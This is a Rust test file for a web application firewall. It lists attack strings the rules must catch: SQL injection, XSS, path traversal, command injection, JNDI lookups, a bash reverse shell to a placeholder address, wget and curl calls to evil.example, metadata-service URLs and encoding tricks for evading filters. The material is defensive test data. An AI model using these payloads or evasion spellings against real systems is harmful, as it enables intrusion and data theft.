//! Attacks that the built-in rules find, and spellings that try to hide them.

use super::{Sent, blocked, waf};
use crate::Config;
use crate::sets::RuleSet;

/// Percent-encodes all bytes except letters and digits.
fn encode(text: &str) -> String {
    let encoded = |byte: u8| match byte {
        b if b.is_ascii_alphanumeric() => char::from(b).to_string(),
        b => format!("%{b:02x}"),
    };
    text.bytes().map(encoded).collect()
}

/// Checks that rules find these values of a parameter.
#[track_caller]
fn finds(attacks: &[(&str, &str)]) {
    let targets = attacks.iter().map(|(rule, value)| (*rule, format!("/?q={}", encode(value))));
    finds_targets(targets);
}

/// Checks that rules find these paths and queries.
#[track_caller]
fn finds_targets<'a>(attacks: impl IntoIterator<Item = (&'a str, impl AsRef<str>)>) {
    let mut waf = waf(Config::default());
    let mut missed = Vec::new();
    for (rule, target) in attacks {
        let sent = Sent::get(target.as_ref());
        let found = sent.found(&waf);
        let is_found = found.iter().any(|id| id == rule);
        if !is_found || (blocked(sent.ask(&mut waf)).is_none() && rule != "protocol-encoding") {
            missed.push(format!("{rule} of {}, only {found:?}", target.as_ref()));
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

#[track_caller]
fn finds_header(rule: &str, name: &str, value: &str) {
    let waf = waf(Config::default());
    let found = Sent::get("/").header(name, value).found(&waf);
    assert!(found.iter().any(|id| id == rule), "{rule} does not find {value}, but {found:?}");
}

#[test]
fn sql_is_found() {
    finds(&[
        ("sqli-union", "1 UNION SELECT username, password FROM users"),
        ("sqli-union", "1' union all select null,null--"),
        ("sqli-union", "-1 union(select(1),2)"),
        ("sqli-union", "1 union select @@version"),
        ("sqli-union", "x' UNION DISTINCT SELECT concat(a,b) from c#"),
        ("sqli-tautology", "' or 1=1--"),
        ("sqli-tautology", "' OR '1'='1"),
        ("sqli-tautology", "\") or (\"a\"=\"a"),
        ("sqli-tautology", "x' || '1'='1"),
        ("sqli-tautology", "' or ''='"),
        ("sqli-tautology", "admin' and 1=2 union"),
        ("sqli-tautology-number", "1 or 1=1"),
        ("sqli-tautology-number", "5) and 2>1 --"),
        ("sqli-boolean", "' or exists(select 1 from users)--"),
        ("sqli-boolean", "' and ascii(substr((select a),1,1))>64"),
        ("sqli-boolean", "' or true--"),
        ("sqli-stacked", "1; DROP TABLE users"),
        ("sqli-stacked", "1';exec xp_cmdshell('dir')"),
        ("sqli-stacked", "1; update users set admin=1"),
        ("sqli-time", "1 and sleep(5)"),
        ("sqli-time", "1' || pg_sleep(10)--"),
        ("sqli-time", "(select*from(select(sleep(20)))a)"),
        ("sqli-time", "1 or benchmark(1000000,md5(1))"),
        ("sqli-waitfor", "1'; WAITFOR DELAY '0:0:5'--"),
        ("sqli-error", "1 and extractvalue(1,concat(0x7e,version()))"),
        ("sqli-error", "updatexml(1, concat(0x7e, user()), 1)"),
        ("sqli-schema", "x from information_schema.tables"),
        ("sqli-schema", "select name from sqlite_master"),
        ("sqli-outfile", "select 1 into outfile '/var/www/x.php'"),
        ("sqli-procedure", "exec master..xp_cmdshell 'whoami'"),
        ("sqli-order", "1' order by 10--"),
        ("sqli-order", "1 order by 3"),
        ("sqli-comment", "admin'--"),
        ("sqli-comment", "admin' #"),
        ("sqli-comment", "admin'/*"),
    ]);
}

#[test]
fn scripts_are_found() {
    finds(&[
        ("xss-script", "<script>alert(1)</script>"),
        ("xss-script", "\"><ScRiPt src=//evil.example></script>"),
        ("xss-script", "< script >"),
        ("xss-handler", "<img src=x onerror=alert(1)>"),
        ("xss-handler", "<svg/onload=alert(1)>"),
        ("xss-handler", "<body\nonpageshow = \"x()\">"),
        ("xss-handler", "<x/onclick=alert`1`>"),
        ("xss-attribute", "\" onfocus=alert(1) autofocus=\""),
        ("xss-attribute", "'onmouseover='alert(1)"),
        ("xss-uri", "javascript:alert(1)"),
        ("xss-uri", "jav\tascr\nipt:alert(1)"),
        ("xss-uri", "\"=javascript://%0aalert(1)"),
        ("xss-uri", " vbscript:msgbox(1)"),
        ("xss-data-uri", "data:text/html,<b>x</b>"),
        ("xss-data-uri", "data:text/html;base64,PHNjcmlwdD4="),
        ("xss-element", "<iframe src=//evil.example>"),
        ("xss-element", "<meta http-equiv=refresh content=0>"),
        ("xss-element", "<math href=x>"),
        ("xss-breakout", "';alert(1)//"),
        ("xss-breakout", "'-alert(1)-'"),
        ("xss-breakout", "\"+fetch(1)+\""),
        ("xss-call", "eval(String.fromCharCode(97))"),
        ("xss-call", "alert(document.cookie)"),
        ("xss-location", "document.location='//evil.example'"),
        ("xss-location", "window.location.href = 'http://evil.example'"),
    ]);
}

#[test]
fn files_are_found() {
    finds(&[
        ("traversal-deep", "../../etc/passwd"),
        ("traversal-deep", "..\\..\\windows\\win.ini"),
        ("traversal-deep", "....//....//etc/passwd"),
        ("traversal-deep", "images/../../x"),
        ("traversal-file", "/etc/passwd"),
        ("traversal-file", "file:///etc/shadow"),
        ("traversal-file", "c:\\windows\\win.ini"),
        ("traversal-file", "/proc/self/environ"),
        ("traversal-up-file", "../wp-config.php"),
        ("traversal-up-file", "../a/b/../.env"),
        ("traversal-wrapper", "php://filter/convert.base64-encode/resource=index"),
        ("traversal-wrapper", "phar://x.jpg"),
        ("traversal-wrapper", "gopher://127.0.0.1:6379/_x"),
    ]);
    finds_targets(
        [
            "/a/../b",
            "/a/..%2fb",
            "/%2e%2e/%2e%2e/etc",
            "/a/..;/manager",
            "/a\\..\\b",
            "/%252e%252e%252f",
            "/..",
        ]
        .map(|target| ("traversal-path", target)),
    );
}

#[test]
fn commands_and_code_are_found() {
    finds(&[
        ("rce-command", "a; cat /etc/hostname"),
        ("rce-command", "127.0.0.1|ls -la"),
        ("rce-command", "x && wget http://evil.example/a"),
        ("rce-command", "x & ping -c 3 10.0.0.1"),
        ("rce-command", "$(curl https://evil.example)"),
        ("rce-command", ";/bin/cat${IFS}/etc/passwd"),
        ("rce-command-alone", "x;whoami"),
        ("rce-command-alone", "a || uname"),
        ("rce-substitution", "`id`"),
        ("rce-substitution", "$(whoami)"),
        ("rce-substitution", "$(sleep 5)"),
        ("rce-line", "a\ncat /etc/hostname"),
        ("rce-shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        ("rce-shell", "/bin/sh -c id"),
        ("rce-shell", "cmd.exe /c dir"),
        ("rce-shell", "powershell -nop -w hidden -enc AAA"),
        ("rce-ifs", "cat${IFS}x"),
        ("rce-jndi", "${jndi:ldap://evil.example/a}"),
        ("rce-jndi", "${${lower:j}ndi:rmi://evil.example}"),
        ("rce-jndi", "${${::-j}${::-n}di:x}"),
        ("rce-php", "<?php system($_GET['c']);"),
        ("rce-php", "eval($_POST[1])"),
        ("rce-php", "assert(base64_decode('x'))"),
        ("rce-java", "Runtime.getRuntime().exec('id')"),
        ("rce-java", "T(java.lang.Runtime)"),
        ("rce-java", "%{(#a=1)}"),
        ("rce-template", "{{7*7}}"),
        ("rce-template", "${7*7}"),
        ("rce-template", "{{''.__class__.__mro__}}"),
        ("rce-template", "{{constructor.constructor('alert(1)')()}}"),
        ("rce-node", "require('child_process').exec('id')"),
        ("rce-object", "rO0ABXNyABFqYXZh"),
        ("rce-object", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"),
        ("rce-metadata", "http://169.254.169.254/latest/meta-data/"),
        ("rce-metadata", "http://a@metadata.google.internal/x"),
    ]);
    finds_targets([
        ("rce-prototype", "/?__proto__[admin]=1"),
        ("rce-prototype", "/?a[constructor][prototype][x]=1"),
        ("rce-java", "/?class.module.classLoader.resources=1"),
    ]);
    finds_header("rce-jndi-header", "x-api-version", "${jndi:ldap://evil.example/a}");
    finds_header("rce-jndi-header", "user-agent", "${${env:X:-j}ndi:ldap://evil.example/a}");
    finds_header("rce-shellshock", "referer", "() { :; }; echo x");
}

#[test]
fn scanners_are_found() {
    finds_targets(
        [
            "/.git/config",
            "/.env",
            "/a/.env.production",
            "/.ssh/id_rsa",
            "/wp-config.php.bak",
            "/backup.sql",
            "/dump.sql.gz",
            "/.aws/credentials",
            "/%2egit/HEAD",
        ]
        .map(|target| ("scanners-dotfile", target)),
    );
    finds_targets(
        [
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/actuator/heapdump",
            "/HNAP1/",
            "/_ignition/execute-solution",
        ]
        .map(|target| ("scanners-probe", target)),
    );
    let waf = waf(Config::default());
    let agent = |agent| Sent { headers: vec![("user-agent", agent)], ..Sent::get("/") }.found(&waf);
    assert_eq!(agent("sqlmap/1.8#stable (https://sqlmap.org)"), ["scanners-agent"]);
    assert_eq!(agent("Mozilla/5.00 (Nikto/2.5.0)"), ["scanners-agent"]);
    assert_eq!(Sent { headers: Vec::new(), ..Sent::get("/") }.found(&waf), ["scanners-no-agent"]);
}

#[test]
fn what_no_browser_sends_is_found() {
    finds_targets([
        ("protocol-null", "/a%00.jpg"),
        ("protocol-null", "/?a=b%2500c"),
        ("protocol-line", "/?next=%0d%0aSet-Cookie:+a=b"),
        ("protocol-line", "/%0aHTTP/1.1"),
        ("protocol-overlong", "/?f=%c0%ae%C0%AF"),
        ("protocol-double-encoding", "/a/%252e%252e/b"),
    ]);
    let waf = waf(Config::default());
    assert_eq!(Sent { method: "TRACE", ..Sent::get("/") }.found(&waf), ["protocol-method"]);
    assert_eq!(Sent { host: "a b", ..Sent::get("/") }.found(&waf), ["protocol-host"]);
    assert_eq!(Sent { host: "a'or'1", ..Sent::get("/") }.found(&waf), ["protocol-host"]);
    assert_eq!(Sent::get("/?a=100%").found(&waf), ["protocol-encoding"]);
    let ranges = "bytes=0-1,".repeat(17);
    assert_eq!(Sent::get("/").header("range", &ranges).found(&waf), ["protocol-ranges"]);
    let twice = Sent::get("/").header("authorization", "a").header("authorization", "b");
    assert_eq!(twice.found(&waf), ["protocol-repeated"]);
    let many = format!("/?{}", "a=1&".repeat(256));
    assert_eq!(Sent::get(&many).found(&waf), ["protocol-parameters"]);
}

#[test]
fn spellings_do_not_hide_an_attack() {
    finds_targets([
        // Encoded twice and three times.
        ("sqli-union", "/?id=1%2520union%2520select%25201,2"),
        ("xss-script", "/?q=%25253cscript%25253e"),
        ("xss-script", "/?q=%u003cscript%u003e"),
        // Upper and lower case.
        ("sqli-union", "/?id=1+uNiOn+SeLeCt+1"),
        // Comments in place of spaces, and code that MySQL runs in a comment.
        ("sqli-union", "/?id=1/**/union/**/select/**/1"),
        ("sqli-union", "/?id=1/*!50000union*/%20/*!select*/1"),
        ("sqli-union", "/?id=1--x%0aunion--y%0aselect--z%0a1"),
        ("sqli-union", "/?id=1%23%0aunion%23x%0aselect%0a1"),
        ("sqli-tautology", "/?id='/**/or/**/1=1"),
        // White space of all kinds.
        ("sqli-union", "/?id=1%09union%0bselect%0c1"),
        ("sqli-union", "/?id=1%a0union%c2%a0select+1"),
        // A comment of SQL hides nothing from the other rules.
        ("xss-script", "/?q=/*<script>*/"),
        ("xss-script", "/?q=%23<script>%0a"),
        // Overlong UTF-8, and fullwidth letters that databases and file systems fold.
        ("traversal-deep", "/?f=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%af"),
        ("traversal-deep", "/?f=%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/"),
        ("xss-script", "/?q=%ef%bc%9cscript%ef%bc%9e"),
        // Null bytes in words.
        ("sqli-union", "/?id=1+un%00ion+sel%00ect+1"),
        ("xss-script", "/?q=<scr%00ipt>"),
        // Repeated parameters, each alone and joined.
        ("sqli-union", "/?id=1&id=1+union+select+1"),
        ("sqli-union", "/?id=1+union/*&id=*/select+1"),
        // Names of parameters, paths and parts without a name.
        ("xss-script", "/?%3Cscript%3E=1"),
        ("xss-script", "/?<script>"),
        ("xss-script", "/search/<script>alert(1)</script>"),
        ("sqli-union", "/item/1%20union%20select%201"),
        // A second question mark and a fragment begin no new part.
        ("sqli-union", "/?a?b=1+union+select+1"),
    ]);
    finds_header("sqli-union", "cookie", "a=b; id=1%20union+select%201");
    finds_header("sqli-tautology", "cookie", "id=' or 1=1--");
}

#[test]
fn every_rule_is_documented_and_of_its_set() {
    let readme = include_str!("../../README.md");
    for set in RuleSet::ALL {
        for rule in set.rules() {
            assert!(rule.id.starts_with(set.name()), "{}", rule.id);
            let line = format!("| `{}` | {} | {} |", rule.id, rule.score, rule.what);
            assert!(readme.contains(&line), "the README lacks {line}");
        }
    }
}
